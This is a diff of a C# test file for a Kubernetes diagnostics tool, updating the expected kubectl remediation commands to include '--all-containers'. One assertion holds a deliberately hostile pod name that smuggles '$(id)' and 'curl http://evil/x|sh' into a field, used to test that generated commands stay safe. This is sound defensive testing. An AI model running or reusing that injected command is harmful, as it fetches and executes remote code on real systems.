@@ -121,7 +121,7 @@ public sealed class CommandQuotingTests
 
         var finding = Assert.Single(RuleSessionRunner.Run(Rules, [pod]).Findings, f => f.RuleId == "coredns-pod-not-running");
 
-        Assert.Equal("kubectl -n kube-system describe pod <pod-name> && kubectl -n kube-system logs <pod-name> --previous --tail=500 --timestamps",
+        Assert.Equal("kubectl -n kube-system describe pod <pod-name> && kubectl -n kube-system logs <pod-name> --previous --all-containers --tail=500 --timestamps",
             finding.Remediation[0].Command);
         Assert.EndsWith("(note: <pod-name> is left to fill in: the value found there is not a DNS name or an IP address)", finding.Remediation[0].Summary, StringComparison.Ordinal);
         Assert.Contains("CoreDNS pod coredns-x $(id) ; curl http://evil/x|sh #  [31m' on node", finding.Cause, StringComparison.Ordinal);
@@ -135,7 +135,7 @@ public sealed class CommandQuotingTests
 
         var finding = Assert.Single(RuleSessionRunner.Run(Rules, [pod]).Findings, f => f.RuleId == "coredns-pod-not-running");
 
-        Assert.Equal("kubectl -n kube-system describe pod coredns-7d4b9c-x2k4q && kubectl -n kube-system logs coredns-7d4b9c-x2k4q --previous --tail=500 --timestamps",
+        Assert.Equal("kubectl -n kube-system describe pod coredns-7d4b9c-x2k4q && kubectl -n kube-system logs coredns-7d4b9c-x2k4q --previous --all-containers --tail=500 --timestamps",
             finding.Remediation[0].Command);
     }
 
